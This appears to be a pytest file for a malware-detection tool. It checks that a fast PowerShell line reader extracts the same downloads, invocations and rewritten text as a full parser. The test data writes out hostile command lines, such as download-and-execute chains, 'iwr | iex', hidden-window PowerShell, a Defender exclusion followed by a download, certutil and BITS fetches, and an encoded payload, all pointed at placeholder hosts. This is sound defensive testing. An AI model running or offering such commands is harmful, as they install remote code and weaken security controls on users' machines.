"""The plain reading of a PowerShell command line (psplain.py) reads as the grammar's does.

A text psplain.statements() takes is read by _Interpreter.run_plain() without tree-sitter; the
same text read through the parse and the tree (powershell.PLAIN off) must give the same
rewritten text and the same facts: commands and their arguments, downloads, nested code and
its layers, completeness. Checked on every line and text of the case files, on generated lines
(plain ones and near misses, whose pieces the grammar reads otherwise: numbers, operators,
tabs, keywords...) and on the shapes that made the pattern stricter while it was written.
"""

from __future__ import annotations

import json
import random
from pathlib import Path

import pytest

from app.detection.interpret import powershell
from app.detection.interpret.budget import Budget
from app.detection.interpret.facts import Facts
from app.detection.interpret.powershell import interpret_powershell
from app.detection.unicode_fold import fold

CASES_DIR = Path(__file__).resolve().parents[3] / "data" / "cases"


def _reading(text: str, plain: bool) -> tuple[object, ...]:
    powershell.PLAIN = plain
    try:
        facts = Facts()
        facts.source = text.lower()
        out = interpret_powershell(text, facts, Budget(ms=10_000, strict=True))
    finally:
        powershell.PLAIN = True
    return (
        out,
        facts.invocations,
        sorted(facts.members),
        facts.remote_code,
        facts.remote_script,
        facts.downloaded_files,
        facts.layers,
        facts.complete,
        sorted(facts.hidden_members),
        sorted(facts.aliased),
    )


def _taken(text: str) -> bool:
    return powershell.plain_statements(text) is not None


def _differences(texts: set[str]) -> tuple[int, list[str]]:
    taken, wrong = 0, []
    for text in sorted(texts):
        if not _taken(text):
            continue
        taken += 1
        if _reading(text, True) != _reading(text, False):
            wrong.append(text)
    return taken, wrong


def _case_texts() -> set[str]:
    texts: set[str] = set()
    for path in sorted(CASES_DIR.glob("*.jsonl")):
        for line in path.read_text(encoding="utf-8").splitlines():
            if not line.strip():
                continue
            text = json.loads(line).get("text", "")
            for variant in (text, fold(text)):
                texts.add(variant)
                texts.update(variant.splitlines())
    return texts


def test_every_case_text_reads_alike_both_ways() -> None:
    taken, wrong = _differences(_case_texts())
    assert taken > 1000  # (5,600 of the corpora's texts and lines when written)
    assert wrong == []


NAMES = (
    "iwr", "irm", "Invoke-WebRequest", "Invoke-RestMethod", "Start-BitsTransfer", "Start-Process",
    "saps", "start", "msiexec", "msiexec.exe", "Expand-Archive", "powershell", "pwsh",
    "powershell.exe", "curl", "curl.exe", "certutil", "cmd", "Add-MpPreference", "Set-Content",
    "Remove-Item", "mshta", "rundll32", "regsvr32", "bitsadmin", "wget", "tar", "sudo", "make",
    "Copy-Item", "ni", "New-Item", "sc", "schtasks", "reg", "Get-Process", "Write-Host", "iex",
    "echo", "gci", "foreach", "exit", "if", "Dec", "Error", "Hello", "a-b", "x.exe",
)  # fmt: skip
PARAMETERS = (
    "-OutFile", "-o", "-O", "-Uri", "-u", "-Source", "-Destination", "-DestinationPath", "-Force",
    "-c", "-co", "-Command", "-command", "-w", "-WindowStyle", "-nop", "-ep", "-e", "-enc",
    "-EncodedCommand", "-ArgumentList", "-FilePath", "-Wait", "-split", "-f", "-join",
    "-replace", "-eq", "-ceq", "-like", "-not", "-band", "-Xmx4G", "-j4", "-1", "--", "--headless",
    "-ExclusionPath", "-UseBasicParsing", "-useb", "-in", "-is", "-as",
)  # fmt: skip
WORDS = (
    "https://cdn.example.test/a.exe", "http://203.0.113.9/x", "203.0.113.9/x.exe", "/i", "/qn",
    "/S", "%TEMP%\\q.exe", "C:\\Users\\Public\\x.exe", "x.zip", "0755", "04", "1.5", "0x1F",
    "4G", "10kb", "a:b", ":", "::", "~/x", "=a", "a=b", "?", "*", "x*", "a,b", "a.", ".\\x.ps1",
    "./x", "_x", "%x", "hxxps://a[.]b/c", "a+b", "a-b", "True", "$true", "$null", "bypass",
    "hidden", "h", "1",
)  # fmt: skip
ENVS = (
    "$env:TEMP", "$env:temp", "$env:APPDATA", "$env:LOCALAPPDATA", "$env:windir", "$env:NOPE",
    "$env:ComSpec", "$env:USERPROFILE", "$env:ProgramFiles",
)  # fmt: skip
PATHS = ("\\x.exe", "\\a\\b.zip", "\\", "\\p-1.msi", "\\x", "\\x.exe.")
JUNK = ("\t", "|", "&", "#", "`", "(", ")", "$x", "@", ",", "{", "}", "[", "]", "<", ">", "!")


def _word(rng: random.Random, depth: int) -> str:
    roll = rng.random()
    if roll < 0.22:
        return rng.choice(PARAMETERS)
    if roll < 0.45:
        return rng.choice(WORDS)
    if roll < 0.55:
        return rng.choice(ENVS)
    if roll < 0.68:
        return rng.choice(ENVS) + rng.choice(PATHS)
    if roll < 0.76:
        return "'" + " ".join(rng.choice(WORDS) for _ in range(rng.randint(0, 3))) + "'"
    if roll < 0.9 or depth > 1:
        parts = [rng.choice((*WORDS, *ENVS, rng.choice(ENVS) + rng.choice(PATHS), ";", " "))]
        parts += [rng.choice((*WORDS, *ENVS, ";", " ", "'")) for _ in range(rng.randint(0, 4))]
        return '"' + " ".join(parts) + '"'
    return '"' + _line(rng, depth + 1) + '"'  # code for powershell -c


def _command(rng: random.Random, depth: int) -> str:
    name = rng.choice(NAMES)
    words = [_word(rng, depth) for _ in range(rng.randint(0, 6))]
    if name in ("powershell", "pwsh", "powershell.exe") and rng.random() < 0.6:
        words += [rng.choice(("-c", "-Command", "-co")), _word(rng, depth)]
        if rng.random() < 0.3:
            words.append(rng.choice(("; exit", "-w", "x")))
    return " ".join([name, *words])


def _line(rng: random.Random, depth: int = 0) -> str:
    commands = [_command(rng, depth) for _ in range(rng.randint(1, 3))]
    line = rng.choice(("; ", ";", "\n", " ; ")).join(commands)
    if rng.random() < 0.15:  # a near miss: one piece the plain reading must refuse or equal
        at = rng.randrange(len(line) + 1)
        line = line[:at] + rng.choice(JUNK) + line[at:]
    if rng.random() < 0.1:
        line = rng.choice(("  ", "\n", ";")) + line + rng.choice(("  ", "\n", ";", " "))
    return line


def generated(count: int, seed: int) -> set[str]:
    rng = random.Random(seed)
    return {_line(rng) for _ in range(count)}


def test_generated_lines_read_alike_both_ways() -> None:
    # (280,867 lines of 29 seeds, 92,107 of them plain, were compared while writing it)
    taken, wrong = _differences(generated(6_000, seed=23))
    assert taken > 500
    assert wrong == []


@pytest.mark.parametrize(
    "text",
    [
        # the grammar reads these otherwise, so they are not plain
        "screen -S mc java -Xmx4G -jar server.jar nogui",  # -Xmx4G: a parameter and a number
        "sudo install -m 0755 x /usr/local/bin/x",  # 0755 is the number 755
        "Rufen Sie sofort den Support an: 0180 5 555",
        "Je ne suis pas un robot : cochez la case",  # a lone ':' is dropped
        "Account\tDescription\tDebit",  # tabs
        "cmd /k certutil -urlcache -split -f https://x.test/a %TEMP%\\a.exe",  # -split operator
        "make -j4",
        "iwr https://x.test/a | iex",  # a pipe
        "iex (irm https://x.test/a)",
        "exit",
        "& $env:TEMP\\x.exe",
        "Start-Process $x",
        "Write-Host hi",  # builtin() reads it
        "iwr https://x.test/a -OutFile `$env:TEMP\\a.exe",
        "iwr https://x.test/a # comment",
        "Get-Item ä",
    ],
)
def test_not_plain(text: str) -> None:
    assert not _taken(text)


@pytest.mark.parametrize(
    "text",
    [
        "iwr https://x.test/a.zip -OutFile $env:TEMP\\a.zip; Expand-Archive $env:TEMP\\a.zip "
        "-DestinationPath $env:TEMP\\a -Force; Start-Process $env:TEMP\\a\\a.exe",
        'powershell -w h -c "iwr https://x.test/a.exe -OutFile $env:TEMP\\a.exe; saps '
        '$env:TEMP\\a.exe"',
        'powershell -c "x" ; Get-Date',
        "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://x.test/u.exe -o "
        "$env:APPDATA\\u.exe",
        'Start-BitsTransfer -Source https://x.test/s.msi -Destination "$env:TEMP\\s.msi"\n'
        "msiexec /i $env:TEMP\\s.msi /qn",
        "pwsh -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAHQAZQBzAHQALwBhAA==",
        'Set-Content "$env:NOPE\\$env:TEMP" x',
    ],
)
def test_plain_lines_read_alike(text: str) -> None:
    assert _taken(text)
    assert _reading(text, True) == _reading(text, False)


def test_a_plain_line_is_read_without_the_grammar(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_parse(*_args: object) -> None:
        raise AssertionError("parsed")

    monkeypatch.setattr(powershell, "parse", no_parse)
    facts = Facts()
    text = "iwr https://x.test/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"
    out = interpret_powershell(text, facts, Budget(ms=1000, strict=True))
    temp = "'C:\\Users\\user\\AppData\\Local\\Temp'"
    assert out == f"iwr https://x.test/a.exe -OutFile {temp}\\a.exe; Start-Process {temp}\\a.exe"
    assert [i.name for i in facts.invocations] == ["invoke-webrequest", "start-process"]
    assert facts.downloaded_files == ["C:\\Users\\user\\AppData\\Local\\Temp\\a.exe"]
